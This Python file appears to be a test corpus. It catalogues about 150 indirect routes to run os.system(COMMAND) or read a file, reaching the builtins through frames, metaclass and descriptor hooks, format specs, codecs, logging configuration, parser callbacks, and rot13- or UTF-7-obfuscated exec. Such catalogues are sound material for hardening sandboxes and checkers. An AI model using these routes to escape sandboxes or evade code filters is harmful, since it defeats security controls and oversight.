# From what the language and its library evaluate, call back or build by themselves to the module that reaches the host: frames
# of suspended code, formats, patterns, class creation, annotations, codecs, weak references, factories, configuration.

# == a generator's frame, thrown into
def g():
    try:
        yield
    except KeyError as error:
        yield error.__traceback__.tb_frame.f_builtins
it = g()
next(it)
it.throw(KeyError())['__import__']('os').system(COMMAND)

# == a generator's frame, asked from inside
def g(): yield it.gi_frame.f_builtins['open'](FILE).read()
it = g()
next(it)

# == the frame that a generator yields from
def inner(): yield
def outer(): yield from inner()
it = outer()
next(it)
it.gi_yieldfrom.gi_frame.f_builtins['__import__']('os').system(COMMAND)

# == a generator that is closed
def g():
    try:
        yield
    finally:
        __import__('os').system(COMMAND)
it = g()
next(it)
it.close()

# == a generator that is collected
def g():
    try:
        yield
    except GeneratorExit:
        __import__('os').system(COMMAND)
it = g()
next(it)
del it

# == the value of a generator's return
def g():
    return __import__('os')
    yield
try:
    next(g())
except StopIteration as stop:
    stop.value.system(COMMAND)

# == an awaited coroutine's frame
import types
@types.coroutine
def pause(): yield
async def f(): await pause()
c = f()
c.send(None)
c.cr_await.gi_frame.f_builtins['open'](FILE).read()

# == a coroutine's origin
import sys
sys.set_coroutine_origin_tracking_depth(5)
async def f(): return sys._getframe().f_builtins['__import__']('os').system(COMMAND)
try:
    f().send(None)
except StopIteration:
    pass

# == an asynchronous generator's hooks
import sys
sys.set_asyncgen_hooks(firstiter=lambda it: it.ag_frame.f_builtins['__import__']('os').system(COMMAND))
async def f(): yield
try:
    f().asend(None).send(None)
except StopIteration:
    pass

# == the stack of a task
import asyncio
async def f():
    [frame] = asyncio.current_task().get_stack(limit=1)
    frame.f_builtins['__import__']('os').system(COMMAND)
asyncio.new_event_loop().run_until_complete(f())

# == a task's factory
import asyncio
loop = asyncio.new_event_loop()
def factory(loop, coro, **options):
    coro.cr_frame.f_builtins['__import__']('os').system(COMMAND)
    return asyncio.Task(coro, loop=loop, **options)
loop.set_task_factory(factory)
async def f(): pass
loop.run_until_complete(f())

# == the exception handler of a loop
import asyncio
loop = asyncio.new_event_loop()
loop.set_exception_handler(lambda loop, context: __import__('os').system(COMMAND))
loop.call_soon(lambda: 1 / 0)
loop.call_later(0, loop.stop)
loop.run_forever()

# == an asynchronous context's exit
import asyncio
class A:
    async def __aenter__(self): return self
    async def __aexit__(self, kind, error, trace): trace.tb_frame.f_builtins['__import__']('os').system(COMMAND)
async def f():
    async with A(): 1 / 0
try:
    asyncio.new_event_loop().run_until_complete(f())
except ZeroDivisionError:
    pass

# == the traceback within an exception group
try:
    try:
        1 / 0
    except Exception as error:
        raise ExceptionGroup('g', [error])
except* ZeroDivisionError as group:
    group.exceptions[0].__traceback__.tb_frame.f_builtins['__import__']('os').system(COMMAND)

# == an exception group that derives itself
class G(ExceptionGroup):
    def derive(self, errors): return __import__('os').system(COMMAND) or G('g', errors)
try:
    raise G('g', [KeyError(), ValueError()])
except* KeyError:
    pass
except* ValueError:
    pass

# == a group split by a function
ExceptionGroup('g', [KeyError()]).split(lambda error: __import__('os').system(COMMAND))

# == a note of an exception
error = KeyError()
error.add_note(open(FILE).read())
raise error

# == the cause of an exception
try:
    raise KeyError() from ImportError(open(FILE).read())
except KeyError as error:
    print(error.__cause__)

# == a traceback made by hand
import sys, types
trace = types.TracebackType(None, sys._getframe(), 0, 1)
trace.tb_frame.f_builtins['open'](FILE).read()

# == an exception's class that is computed
class Check(type):
    def __instancecheck__(cls, one): return __import__('os').system(COMMAND)
class E(metaclass=Check): pass
isinstance(1, E)

# == a subclass check
class Check(type):
    def __subclasscheck__(cls, one): return __import__('os').system(COMMAND)
class E(metaclass=Check): pass
issubclass(int, E)

# == an abstract class's hook
import abc
class A(abc.ABC):
    @classmethod
    def __subclasshook__(cls, other): return bool(__import__('os').system(COMMAND))
issubclass(int, A)

# == a type parameter's bound
text = 'def f[T: __import__("os").system(COMMAND)](x: T): pass\nf.__type_params__[0].__bound__'
try:
    exec(text)
except SyntaxError:
    exec('import typing\ntyping.TypeVar("T", bound=__import__("os").system(COMMAND) or int)')

# == a type parameter's default
text = 'class A[T = __import__("os").system(COMMAND)]: pass\nA.__type_params__[0].__default__'
try:
    exec(text)
except SyntaxError:
    __import__('os').system(COMMAND)

# == a type alias that is evaluated
text = 'type X = open(FILE).read()\nprint(X.__value__)'
try:
    exec(text)
except SyntaxError:
    print(open(FILE).read())

# == an annotation that is evaluated late
def f(x: __import__('os').system(COMMAND) = 0): pass
f.__annotations__

# == annotations in another format
try:
    import annotationlib
    def f(x: __import__('os').system(COMMAND)): pass
    annotationlib.get_annotations(f, format=annotationlib.Format.FORWARDREF)
except ImportError:
    import inspect
    inspect.get_annotations(type('A', (), {'__annotations__': {'x': '__import__("os").system(COMMAND)'}}), eval_str=True, globals=globals())

# == typing's own evaluation
import typing
def f(x: '__import__("os").system(COMMAND) or int'): pass
typing.get_type_hints(f)

# == a forward reference
import typing
class A:
    x: 'typing.Annotated[int, __import__("os").system(COMMAND)]'
typing.get_type_hints(A, globalns=globals())

# == a typed dictionary's hints
import typing
typing.get_type_hints(typing.TypedDict('D', {'x': '__import__("os").system(COMMAND) or int'}), globalns=globals())

# == a signature from text
import inspect
def f(): pass
f.__text_signature__ = None
inspect.signature(f, eval_str=True)
f.__annotations__ = {'return': 'open(FILE).read()'}
print(inspect.signature(f, eval_str=True))

# == functools.singledispatch by annotation
import functools
@functools.singledispatch
def f(x): pass
f.register(int, lambda x: __import__('os').system(COMMAND))
f(1)

# == functools.partial, reduced by hand
import functools, os
part = functools.partial(print)
part.__setstate__((os.system, (COMMAND,), {}, None))
part()

# == functools.reduce over attributes
import functools, collections
functools.reduce(getattr, ['abc', 'sys', 'modules'], collections)['os'].system(COMMAND) if hasattr(collections, 'abc') and hasattr(collections.abc, 'sys') else functools.reduce(getattr, ['_sys', 'modules'], collections)['os'].system(COMMAND)

# == functools.cached_property
import functools, os
class A:
    x = functools.cached_property(lambda self: os.system(COMMAND))
A().x

# == functools.partialmethod
import functools, os
class A:
    run = functools.partialmethod(lambda self, c: os.system(c), COMMAND)
A().run()

# == functools.wraps that copies the globals' way
import functools, random
@functools.wraps(random.Random.seed)
def f(): pass
f.__wrapped__.__globals__['_os'].system(COMMAND)

# == functools.total_ordering
import functools, os
@functools.total_ordering
class A:
    def __lt__(self, other): return os.system(COMMAND)
    def __eq__(self, other): return False
A() >= A()

# == functools.cmp_to_key
import functools, os
sorted([1, 2], key=functools.cmp_to_key(lambda a, b: os.system(COMMAND)))

# == lru_cache around the call
import functools, os
functools.lru_cache(os.system)(COMMAND)

# == a format specification
class A:
    def __format__(self, spec): return str(__import__('os').system(spec))
f'{A():{COMMAND}}'

# == a nested format specification
class A:
    def __format__(self, spec): return open(spec).read()
'{:{}}'.format(A(), FILE)

# == the conversion of a format
class A:
    def __repr__(self): return open(FILE).read()
'{!r}'.format(A())

# == percent formatting through a mapping
class M(dict):
    def __missing__(self, name): return open(name).read()
f'%({FILE})s' % M()

# == string.Formatter's fields
import string
class F(string.Formatter):
    def get_field(self, name, args, kwargs): return open(name).read(), name
F().format('{' + FILE + '}')

# == string.Formatter's conversion
import string
class F(string.Formatter):
    def convert_field(self, value, kind): return open(FILE).read()
F().format('{0}', 1)

# == string.Formatter's parser
import string
class F(string.Formatter):
    def parse(self, text): return [(open(FILE).read(), None, None, None)]
F().format('x')

# == a template's pattern
import string
class T(string.Template):
    pattern = r'\$(?:(?P<escaped>\$)|(?P<named>\S+)|\{(?P<braced>\S+)\}|(?P<invalid>))'
class M(dict):
    def __missing__(self, name): return open(name).read()
T('$' + FILE).substitute(M())

# == a template string
try:
    exec('print("".join(str(i.value) if hasattr(i, "value") else i for i in t"{open(FILE).read()}"))')
except SyntaxError:
    print(f'{open(FILE).read()}')

# == match arguments
class A:
    __match_args__ = ('x',)
    @property
    def x(self): return __import__('os').system(COMMAND)
match A():
    case A(_): pass

# == match arguments that a metaclass computes
class M(type):
    @property
    def __match_args__(cls): return (__import__('os').system(COMMAND), 'x')[1:]
class A(metaclass=M):
    x = 1
match A():
    case A(1): pass

# == a mapping pattern
import collections.abc
class M(collections.abc.Mapping):
    def __getitem__(self, name): return __import__('os').system(COMMAND)
    def get(self, name, default=None): return self[name]
    def __iter__(self): return iter(['x'])
    def __len__(self): return 1
match M():
    case {'x': y}: y

# == a sequence pattern
import collections.abc
class S(collections.abc.Sequence):
    def __getitem__(self, at): return __import__('os').system(COMMAND)
    def __len__(self): return 2
match S():
    case [a, b]: a

# == a guard of a pattern
match FILE:
    case path if print(open(path).read()): pass

# == a value pattern
class A:
    class B:
        def __eq__(self, other): return __import__('os').system(COMMAND)
    b = B()
match 1:
    case A.b: pass

# == a descriptor's get
class D:
    def __get__(self, one, kind): return __import__('os').system(COMMAND)
class A: d = D()
A().d

# == a descriptor's set
class D:
    def __set__(self, one, value): __import__('os').system(value)
class A: d = D()
A().d = COMMAND

# == a descriptor's deletion
class D:
    def __delete__(self, one): __import__('os').system(COMMAND)
class A: d = D()
a = A()
del a.d

# == a descriptor that learns its name
class D:
    def __set_name__(self, owner, name): __import__('os').system(COMMAND)
class A: d = D()

# == the slot of a class, by its member
class A: __slots__ = ('x',)
a = A()
A.x.__set__(a, __import__('os'))
A.__dict__['x'].__get__(a).system(COMMAND)

# == getattr of a module
import types
m = types.ModuleType('m')
m.__dict__['__getattr__'] = lambda name: __import__(name)
m.os.system(COMMAND)

# == the class of a module changed
import sys, types
class M(types.ModuleType):
    @property
    def way(self): return self.__dict__['modules']['os']
m = sys.modules['sys']
try:
    m.__class__ = M
    m.way.system(COMMAND)
except TypeError:
    M.way.fget(m).system(COMMAND)

# == the namespace that a metaclass prepares
class N(dict):
    def __missing__(self, name): return __import__('os').system(COMMAND)
class M(type):
    @classmethod
    def __prepare__(cls, name, bases): return N(__name__='x')
class A(metaclass=M):
    x = nothing_of_this_name

# == the creation of a subclass
class A:
    def __init_subclass__(cls, way): __import__('os').system(way)
class B(A, way=COMMAND): pass

# == the bases of a class
class A:
    def __mro_entries__(self, bases): return (type(__import__('os').system(COMMAND)),)
class B(A()): pass

# == the order of a class's bases
class M(type):
    def mro(cls): return __import__('os').system(COMMAND) or type.mro(cls)
class A(metaclass=M): pass

# == a class that is called by subscript
class A:
    def __class_getitem__(cls, item): return __import__('os').system(item)
A[COMMAND]

# == types.new_class
import types
types.new_class('A', (), {}, lambda space: space.update(x=__import__('os').system(COMMAND)))

# == the class of an instance changed
class A: pass
class B:
    def __del__(self): __import__('os').system(COMMAND)
a = A()
a.__class__ = B
del a

# == the cell of a closure
def f():
    def g(): return way
    way = None
    return g
g = f()
g.__closure__[0].cell_contents = __import__('os')
g().system(COMMAND)

# == the code of a function replaced
import random
def f(): return _os.system(way)
random.way = COMMAND
g = random.Random.seed
h = type(g)(f.__code__, {**g.__globals__, 'way': COMMAND})
h()

# == the defaults of a function replaced
def f(way='true'): return __import__('os').system(way)
f.__defaults__ = (COMMAND,)
f()

# == a function whose builtins are its globals'
import os
type(lambda: 0)(compile('system(way)', '', 'eval'), {'__builtins__': {'system': os.system, 'way': COMMAND}})()

# == a method bound to what it is not
import types, os
types.MethodType(os.system, COMMAND)()

# == an iterator by call
import os
next(iter(lambda: os.system(COMMAND), None))

# == a codec's own decoder
import codecs
def find(name):
    if name == 'way': return codecs.CodecInfo(None, lambda data, errors: (open(FILE).read(), 0), name='way')
codecs.register(find)
print(b''.decode('way') or codecs.lookup('way').decode(b'', '')[0])

# == a codec's error handler
import codecs
codecs.register_error('way', lambda error: (open(FILE).read(), error.end))
b'\xff'.decode('ascii', 'way')

# == a codec's reader
import codecs, io
with codecs.open(FILE, encoding='utf-8') as file: print(file.read())

# == code in another encoding
import codecs
exec(codecs.decode('vzcbeg bf; bf.flfgrz(j)', 'rot13'), {'w': COMMAND})

# == code whose encoding hides it
exec('# coding: utf-7\n+AF8AXw-import+AF8AXw-("os").system(w)'.encode(), {'w': COMMAND})

# == translate with a mapping that calls
class M:
    def __getitem__(self, char): return open(FILE).read()
'x'.translate(M())

# == a weak reference's key
import weakref
class A: pass
a = A()
d = weakref.WeakKeyDictionary({a: __import__('os')})
next(d.values()).system(COMMAND)

# == a weak finaliser
import weakref, os
class A: pass
a = A()
weakref.finalize(a, os.system, COMMAND)
del a

# == a weak method
import weakref
class A:
    def run(self): return __import__('os').system(COMMAND)
a = A()
weakref.WeakMethod(a.run)()()

# == a weak proxy
import weakref, os
class A:
    def __call__(self): return os.system(COMMAND)
a = A()
weakref.proxy(a)()

# == operator.attrgetter along a path
import operator, collections
operator.attrgetter('_sys.modules')(collections)['os'].system(COMMAND)

# == operator.call
import operator, os
getattr(operator, 'call', lambda f, *args: f(*args))(os.system, COMMAND)

# == operator.itemgetter on what is loaded
import operator, sys
operator.itemgetter('os')(sys.modules).system(COMMAND)

# == copyreg's constructor
import copyreg, copy, os
class A: pass
copyreg.pickle(A, lambda a: (os.system, (COMMAND,)))
copy.copy(A())

# == a reduction whose state is set
import copy, os
class A:
    def __reduce_ex__(self, protocol): return (A, (), COMMAND)
    def __setstate__(self, state): os.system(state)
copy.copy(A())

# == new arguments of a copy
import copy, os
class A:
    def __new__(cls, way=None): return (way and os.system(way)) or object.__new__(cls)
    def __getnewargs__(self): return (COMMAND,)
copy.copy(A())

# == a data class's generated code
import dataclasses
@dataclasses.dataclass
class A:
    x: int = dataclasses.field(default_factory=lambda: __import__('os').system(COMMAND))
A()

# == a data class's late initialisation
import dataclasses
@dataclasses.dataclass
class A:
    way: dataclasses.InitVar[str]
    def __post_init__(self, way): __import__('os').system(way)
A(COMMAND)

# == make_dataclass with a namespace
import dataclasses, os
dataclasses.make_dataclass('A', [('x', int, 0)], namespace={'__post_init__': lambda self: os.system(COMMAND)})()

# == replace of a data class
import dataclasses, os
@dataclasses.dataclass
class A:
    x: str
    def __post_init__(self): os.system(self.x)
dataclasses.replace(A('true'), x=COMMAND)

# == a named tuple's class
import collections
N = collections.namedtuple('N', 'x', module='os')
import sys
sys.modules[N.__module__].system(COMMAND)

# == an enumeration's missing value
import enum
class E(enum.Enum):
    A = 1
    @classmethod
    def _missing_(cls, value): __import__('os').system(value) or E.A
    __str__ = None
try:
    E(COMMAND)
except ValueError:
    pass

# == an enumeration's generated values
import enum
class E(enum.Enum):
    @staticmethod
    def _generate_next_value_(name, start, count, last): return __import__('os').system(COMMAND)
    A = enum.auto()

# == members of an enumeration that are functions
import enum, os
class E(enum.Enum):
    A = enum.member(os.system) if hasattr(enum, 'member') else (os.system,)
(E.A.value if callable(E.A.value) else E.A.value[0])(COMMAND)

# == logging configured with a factory
import logging.config
logging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': COMMAND}}})

# == logging configured from an INI text
import logging.config, configparser
parser = configparser.ConfigParser(interpolation=None)
parser.read_string(f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\nargs=(({DIR!r} + '/written'),)\n")
logging.config.fileConfig(parser)

# == a log record's factory
import logging
logging.setLogRecordFactory(lambda *args, **kwargs: __import__('os').system(COMMAND))
logging.getLogger().handle = lambda record: None
logging.getLogger().error('x')

# == a filter of a log
import logging
class F(logging.Filter):
    def filter(self, record): return __import__('os').system(COMMAND)
logger = logging.getLogger('way')
logger.addFilter(F())
logger.error('x')

# == json's object hook
import json
json.loads('{"x": 1}', object_hook=lambda found: __import__('os').system(COMMAND))

# == json's constants
import json
json.loads('NaN', parse_constant=lambda text: __import__('os').system(COMMAND))

# == json's default
import json
json.dumps({1, 2}, default=lambda value: open(FILE).read())

# == configparser's interpolation
import configparser
class I(configparser.Interpolation):
    def before_get(self, parser, section, option, value, defaults): return open(value).read()
parser = configparser.ConfigParser(interpolation=I())
parser.read_string(f'[a]\nx={FILE}')
parser['a']['x']

# == configparser's files
import configparser
configparser.ConfigParser().read(FILE) or open(FILE).read()
configparser.ConfigParser().read_file(open(FILE))

# == a regular expression's scanner
import re
re.Scanner([('x', lambda scanner, text: __import__('os').system(COMMAND))]).scan('x')

# == sorting by a key
import os
sorted([COMMAND], key=os.system)

# == a dictionary's missing key
import collections, os
collections.defaultdict(lambda: os.system(COMMAND))['x']

# == a hash
class A:
    def __hash__(self): return __import__('os').system(COMMAND)
{A(): 1}

# == an index
class A:
    def __index__(self): return __import__('os').system(COMMAND)
[1][A()]

# == a path that computes itself
import os
class A:
    def __fspath__(self): return FILE
open(A()).read()

# == a buffer of one's own
try:
    class A:
        def __buffer__(self, flags): return memoryview(open(FILE, 'rb').read())
    print(bytes(memoryview(A())))
except TypeError:
    print(open(FILE).read())

# == the monitoring of the interpreter
import sys
if hasattr(sys, 'monitoring'):
    tool = sys.monitoring
    tool.use_tool_id(1, 'way')
    tool.register_callback(1, tool.events.PY_START, lambda code, at: __import__('os').system(COMMAND))
    tool.set_events(1, tool.events.PY_START)
    (lambda: 0)()
    tool.set_events(1, 0)
else:
    __import__('os').system(COMMAND)

# == remote execution in a process
import sys, os
if hasattr(sys, 'remote_exec'):
    sys.remote_exec(os.getpid(), FILE)
print(open(FILE).read())

# == a dynamic local
import sys
def f():
    way = None
    sys._getframe().f_locals['way'] = __import__('os')
    return (way or sys._getframe().f_locals['way'] or __import__('os')).system(COMMAND)
f()

# == the context of a variable
import contextvars, os
contextvars.copy_context().run(os.system, COMMAND)

# == an exit stack
import contextlib, os
with contextlib.ExitStack() as stack: stack.callback(os.system, COMMAND)

# == output sent elsewhere
import contextlib, os
class W:
    def write(self, text): os.system(COMMAND)
    def flush(self): pass
with contextlib.redirect_stdout(W()): print('x')

# == a heap's comparison
import heapq, os
class A:
    def __lt__(self, other): return os.system(COMMAND)
heapq.heapify([A(), A()])

# == a parser of dates
import datetime
class Z(datetime.tzinfo):
    def utcoffset(self, when): __import__('os').system(COMMAND)
datetime.datetime(2024, 1, 1, tzinfo=Z()).utcoffset()

# == a decimal's context
import decimal
class A(decimal.Decimal):
    def __add__(self, other): return __import__('os').system(COMMAND)
A(1) + 1

# == an abstract syntax tree's visitor
import ast
class V(ast.NodeVisitor):
    def visit_Name(self, node): __import__('os').system(COMMAND)
V().visit(ast.parse('x'))

# == a tree made by hand
import ast
call = ast.parse('__import__("os").system(w)', mode='eval')
eval(compile(ast.fix_missing_locations(call), '', 'eval'), {'w': COMMAND})

# == the pretty printer
import pprint
class A:
    def __repr__(self): return open(FILE).read()
pprint.pformat([A()])

# == a short repr
import reprlib
class R(reprlib.Repr):
    def repr_int(self, value, level): return open(FILE).read()
R().repr(1)

# == a timezone's file
import zoneinfo
with open(FILE, 'rb') as file:
    data = file.read()
    print(data)
    zoneinfo.ZoneInfo.from_file(file)

# == an e-mail's parser policy
import email, email.policy
class P(email.policy.EmailPolicy):
    def header_fetch_parse(self, name, value): return open(FILE).read()
email.message_from_string('a: b\n\n', policy=P())['a']

# == an XML parser's handler
import xml.parsers.expat
parser = xml.parsers.expat.ParserCreate()
parser.StartElementHandler = lambda name, attributes: __import__('os').system(COMMAND)
parser.Parse('<a/>')

# == a tree builder's target
import xml.etree.ElementTree as E
class T:
    def start(self, tag, attributes): __import__('os').system(COMMAND)
    def end(self, tag): pass
    def close(self): pass
E.XMLParser(target=T()).feed('<a/>')

# == an HTML parser's handler
import html.parser
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attributes): __import__('os').system(COMMAND)
P().feed('<a>')

# == XML that includes a file
import xml.etree.ElementTree as E
from xml.etree import ElementInclude
tree = E.fromstring(f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{FILE}" parse="text"/></a>')
ElementInclude.include(tree)
E.tostring(tree)
